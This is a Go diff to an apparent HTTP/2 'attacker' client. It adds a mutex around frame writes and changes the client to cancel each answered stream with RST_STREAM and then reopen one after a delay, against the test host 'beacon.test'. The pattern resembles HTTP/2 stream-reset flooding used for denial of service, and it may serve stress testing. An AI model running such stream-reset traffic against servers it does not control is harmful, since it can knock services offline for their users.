@@ -5,6 +5,7 @@ import (
 	"io"
 	"net"
 	"strconv"
+	"sync"
 	"time"
 
 	"golang.org/x/net/http2"
@@ -36,7 +37,7 @@ func (r *attacker) stall(n int) error {
 	if err := f.WriteSettings(); err != nil {
 		return err
 	}
-	s := stream{f: f, from: r.from(n), payload: &r.payload}
+	s := &stream{f: f, from: r.from(n), payload: &r.payload}
 	s.encoder = hpack.NewEncoder(&s.block)
 	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
 	for range r.Streams {
@@ -52,18 +53,17 @@ func (r *attacker) stall(n int) error {
 		switch frame := frame.(type) {
 		case *http2.SettingsFrame:
 			if !frame.IsAck() {
-				err = f.WriteSettingsAck()
+				err = s.write(f.WriteSettingsAck)
 			}
 		case *http2.PingFrame:
 			if !frame.IsAck() {
-				err = f.WritePing(true, frame.Data)
+				err = s.write(func() error { return f.WritePing(true, frame.Data) })
 			}
 		case *http2.MetaHeadersFrame:
 			status, _ := strconv.Atoi(frame.PseudoValue("status"))
 			r.count(status)
-			if err = f.WriteRSTStream(frame.StreamID, http2.ErrCodeCancel); err == nil {
-				err = s.open()
-			}
+			err = s.write(func() error { return f.WriteRSTStream(frame.StreamID, http2.ErrCodeCancel) })
+			time.AfterFunc(r.Every, func() { _ = s.open() }) // reading finds out that it is closed
 		case *http2.GoAwayFrame:
 			return io.EOF
 		}
@@ -75,6 +75,7 @@ func (r *attacker) stall(n int) error {
 
 // A stream opens streams on a connection, one after the other.
 type stream struct {
+	mu      sync.Mutex
 	f       *http2.Framer
 	encoder *hpack.Encoder
 	block   bytes.Buffer
@@ -83,7 +84,15 @@ type stream struct {
 	last    uint32
 }
 
+func (s *stream) write(f func() error) error {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return f()
+}
+
 func (s *stream) open() error {
+	s.mu.Lock()
+	defer s.mu.Unlock()
 	s.block.Reset()
 	for _, h := range [][2]string{
 		{":method", "POST"}, {":scheme", "http"}, {":authority", "beacon.test"}, {":path", "/b"},
